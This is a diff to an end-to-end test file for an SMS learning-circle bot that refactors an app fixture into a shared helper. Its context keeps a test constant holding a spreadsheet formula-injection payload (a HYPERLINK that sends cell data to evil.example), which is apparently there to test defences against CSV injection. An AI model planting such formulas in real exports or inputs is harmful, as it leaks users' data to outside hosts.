@@ -16,7 +16,7 @@ from sqlalchemy import select
 
 from bot.store.models import Circle, Enrollment, Message, Outbox, WebSession
 from tests.e2e.test_facilitator_pages import A_PHONE, B_PHONE, add_learner, csrf, get, post, sign_in
-from tests.helpers import BASE_URL, contact_of, make_circle, sign, sms, text
+from tests.helpers import contact_of, make_circle, sign, sms, test_app, text
 
 LEARNER = "+18165550123"
 EVIL = '=HYPERLINK("http://evil.example/?d="&B2,"Click me")'
@@ -342,22 +342,7 @@ def test_odd_input_on_the_pages_gets_a_polite_4xx(pages, uow):
 @pytest.fixture
 def proxied(backend, tmp_path):
     """The app behind one trusted proxy (TRUSTED_PROXIES=1)."""
-    from bot import create_app
-    from tests.helpers import AUTH_TOKEN, RUN_QUEUE
-
-    app = create_app(
-        {
-            "DATABASE_URL": backend["DATABASE_URL"],
-            "REDIS_URL": backend["REDIS_URL"],
-            "TWILIO_AUTH_TOKEN": AUTH_TOKEN,
-            "PUBLIC_BASE_URL": BASE_URL,
-            "INSTANCE_PATH": str(tmp_path),
-            "queue_name": RUN_QUEUE,
-            "SECRET_KEY": "test-secret-key-for-sessions",
-            "TRUSTED_PROXIES": "1",
-        }
-    )
-    app.config["TESTING"] = True
+    app = test_app(backend, tmp_path, TRUSTED_PROXIES="1")
     app.config["WTF_CSRF_SSL_STRICT"] = False
     yield app
     app.extensions["circlebot"].uow.engine.dispose()
